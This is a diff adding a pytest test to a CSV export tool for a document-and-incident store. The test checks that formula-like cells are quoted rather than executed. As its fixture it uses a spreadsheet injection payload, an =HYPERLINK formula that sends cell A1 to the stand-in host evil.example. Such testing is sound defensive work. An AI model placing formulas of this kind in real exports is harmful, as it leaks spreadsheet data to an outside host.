@@ -139,3 +139,18 @@ def test_reading_commands_refuse_a_missing_store(tmp_path, capsysbinary):
         code, _, err = run_cli([*command, "--db", str(tmp_path / "typo.db")], capsysbinary)
         assert code == 1 and err.startswith(f"error: no store at {tmp_path}/typo.db")
         assert not (tmp_path / "typo.db").exists()
+
+
+@pytest.mark.parametrize("fmt", ["csv", "acled"])
+def test_csv_cells_that_look_like_formulas_are_quoted_not_run(tmp_path, fmt):
+    path = str(tmp_path / "f.db")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with open_store(path) as s:
+        s.add_document(Document("text f", id="f.txt", title="@SUM(1+1)", published="2024-07-22"),
+                       [Incident("strike", **BEL, settlement="+Shchetinovka", target="-truck", date="2024-07-21",
+                                 evidence=hostile)])
+        text = exports.csv_export.render(s, Filters(), fmt)
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+    kept = ("'" + hostile) in cells if fmt == "csv" else any(hostile in c for c in cells)  # nothing lost
+    assert kept
